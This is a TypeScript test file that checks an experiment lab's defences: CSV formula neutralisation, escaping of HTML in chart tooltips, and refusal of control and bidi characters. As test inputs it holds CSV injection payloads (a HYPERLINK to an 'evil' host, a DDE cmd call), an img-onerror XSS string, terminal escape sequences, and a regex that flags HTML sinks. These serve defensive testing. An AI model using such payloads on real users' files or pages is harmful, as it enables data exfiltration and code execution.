// Issue 20, items 21–23: what leaves the lab for a spreadsheet, a page or a terminal cannot act on its reader.
// CSV cells that a spreadsheet would run as formulas are neutralised (OWASP); every chart tooltip the renderer writes
// escapes names and texts (one helper, lib/html.ts); control and bidi-override characters are refused in every name,
// title, tag and note by the contract (one rule, src/shared/textSafety.ts).
import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { validateCall, type RunRecord } from '../src/shared/api'
import { csvCell } from '../src/shared/csvCell'
import { seedTableText } from '../src/shared/seedTableExport'
import { escapeUnsafe, unsafeTextProblem } from '../src/shared/textSafety'
import { emergeTooltip, probeTooltip, updateGridTooltip, windowTooltip } from '../src/renderer/src/lib/chartTooltips'
import { Lab } from '../src/main/lab/lab'
import { ROOT, tmp } from './helpers'

const HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"click")', '@SUM(1+1)*cmd|" /C calc"!A0', '+1+cmd', '-2+3', '\tTAB', '\rCR']

describe('CSV cells (item 21)', () => {
  it('a cell a spreadsheet would run as a formula is prefixed with a quote and quoted; numbers stay numbers', () => {
    expect(HOSTILE.map(csvCell)).toEqual([
      `"'=HYPERLINK(""http://evil/?""&A1,""click"")"`,
      `"'@SUM(1+1)*cmd|"" /C calc""!A0"`,
      `"'+1+cmd"`,
      `"'-2+3"`,
      `"'\tTAB"`,
      `"'\rCR"`,
    ])
    expect(['-0.03', '0.001', '1e-4', '+5', 'plain', 'a,b'].map(csvCell)).toEqual(['-0.03', '0.001', '1e-4', `"'+5"`, 'plain', '"a,b"'])
  })

  it('the CLI/lab table and the page download neutralise the same words', async () => {
    // the page's module uses the DOM (not in the node type-check): imported by a path the checker does not follow
    const page = join(ROOT, 'src', 'renderer', 'src', 'lib', 'download.ts')
    const { seedTableFile } = (await import(page)) as { seedTableFile: (runs: RunRecord[], format: 'csv', stamp: string) => { text: string } }
    const words = ['To', '=HYPERLINK("http://evil/?"&A1)', '@SUM(1+1)*cmd|"/C', '+1+cmd', '-2+3']
    const run = { lr: -0.01, fullText: words.join(' '), prompt: '', phrase: null, modelRef: null, metrics: {} } as unknown as RunRecord
    const lab = seedTableText([run], 'csv').split('\r\n')
    expect(lab[0]).toBe('gradStep,-0.01')
    expect(lab.slice(1, 6)).toEqual(['0,To', `1,"'=HYPERLINK(""http://evil/?""&A1)"`, `2,"'@SUM(1+1)*cmd|""/C"`, `3,"'+1+cmd"`, `4,"'-2+3"`])
    expect(seedTableFile([run], 'csv', 'now').text.split('\r\n').slice(1, 6)).toEqual(lab.slice(1, 6))
  })

  describe('through the lab', () => {
    let lab: Lab
    beforeAll(() => {
      lab = new Lab({ dataDir: tmp('soliloquy-csv-'), threads: 1 })
    })
    afterAll(() => lab?.close())
    it("experimentTable (the CLI's `table --format csv`) of a sweep whose prompt is a formula", async () => {
      const s = await lab.sweep({ prompt: '=HYPERLINK("http://x") @SUM(A1) +1 -x', lrs: [0, 0.01], maxGen: 1 })
      const rows = (await lab.experimentTable({ id: s.runs[0].experimentId!, format: 'csv' })).text.split('\r\n')
      expect(rows.slice(1, 4)).toEqual([
        `0,"'=HYPERLINK(""http://x"")","'=HYPERLINK(""http://x"")"`,
        `1,"'@SUM(A1)","'@SUM(A1)"`,
        `2,"'+1","'+1"`,
      ])
      // the prompt's last word runs on into the completion
      expect(rows[4]).toMatch(/^3,"'-x[^,]*","'-x/)
    })
  })
})

describe('chart tooltips (item 22)', () => {
  const folder = 'x<img src=x onerror=alert(1)>'
  it('escape names and texts: a model folder named like markup is shown as text', () => {
    for (const h of [
      windowTooltip(`${folder} (2026-12-06 14:00): [1.0E-03, 3.0E-02]`),
      probeTooltip(folder, [0.01, 0.5, 0.2], `</i>${folder}`),
      emergeTooltip(0.01, 3, folder, -1.5, [{ text: folder, logprob: -1.5 }, { text: '<b>', logprob: -2 }]),
      updateGridTooltip(0, folder, 1.5),
    ]) {
      expect(h).not.toMatch(/<img|<\/i>x|<b>"/)
      expect(h).toContain('x&#60;img src=x onerror=alert(1)&#62;')
    }
    expect(emergeTooltip(0.01, 3, 'a', -1, [{ text: '<b>', logprob: -2 }])).toContain('&#34;&#60;b&#62;&#34; -2.00')
    // our own markup stays markup
    expect(probeTooltip('learned', [0.01, 0.5, null], 'hi')).toBe('α 1.0E-02 · learned<br/>token repetition 0.50 · KL —<br/><i>hi</i>')
  })

  it('every tooltip formatter in the renderer goes through lib/chartTooltips.ts, and nothing sets innerHTML', () => {
    const files: string[] = []
    const walk = (d: string): void => {
      for (const n of readdirSync(d)) {
        const p = join(d, n)
        if (statSync(p).isDirectory()) walk(p)
        else if (/\.(vue|ts)$/.test(n)) files.push(p)
      }
    }
    walk(join(ROOT, 'src', 'renderer', 'src'))
    const offenders: string[] = []
    for (const f of files) {
      const src = readFileSync(f, 'utf8')
      if (/innerHTML|outerHTML|insertAdjacentHTML|v-html/.test(src)) offenders.push(`${f}: sets HTML`)
      // a tooltip's formatter returns HTML: it must be one of the escaping builders
      for (const m of src.matchAll(/tooltip:\s*\{[^}]*?formatter:\s*(\([^)]*\)\s*=>[\s\S]{0,200})/g))
        if (!/=>\s*(\{[\s\S]*?return\s+)?(probeTooltip|windowTooltip|emergeTooltip|scatterTooltip|updateGridTooltip|expertsTooltip)\(/.test(m[1]))
          offenders.push(`${f}: ${m[1].slice(0, 80)}`)
    }
    expect(offenders).toEqual([])
  })
})

describe('control and bidi characters in names and texts (item 23)', () => {
  const bad = ['evil\u001b[2J\u001b[31mred', 'bell\u0007', 'abc\u202eexe.txt', 'ltr\u2066iso']
  it('experiment titles, tags and notes refuse them in the contract, for every transport; the refusal prints none raw', () => {
    for (const s of bad) {
      for (const [args, what] of [
        [{ id: 1, title: s }, 'an experiment title'],
        [{ id: 1, tags: ['ok', s] }, 'a tag'],
        [{ id: 1, notes: `line one\n${s}` }, 'experiment notes'],
      ] as const) {
        const v = validateCall('updateExperiment', args)
        expect(v.ok, `${what}: ${JSON.stringify(s)}`).toBe(false)
        const message = v.ok ? '' : v.message
        expect(message).toContain(`${what} cannot contain control or bidirectional-override characters`)
        expect(message).not.toMatch(/[\u0000-\u001f\u007f\u202a-\u202e\u2066-\u2069]/)
      }
    }
    expect(validateCall('updateExperiment', { id: 1, title: 'Hamlet — α sweep', tags: ['seed'], notes: 'two\nlines\tand a tab\r\n' }).ok).toBe(true)
    expect(unsafeTextProblem('an experiment title', 'a\u001bb')).toBe('an experiment title cannot contain control or bidirectional-override characters (\\u001b in "a\\u001bb")')
    expect(escapeUnsafe('a\u202eb\u0007')).toBe('a\\u202eb\\u0007')
  })
})
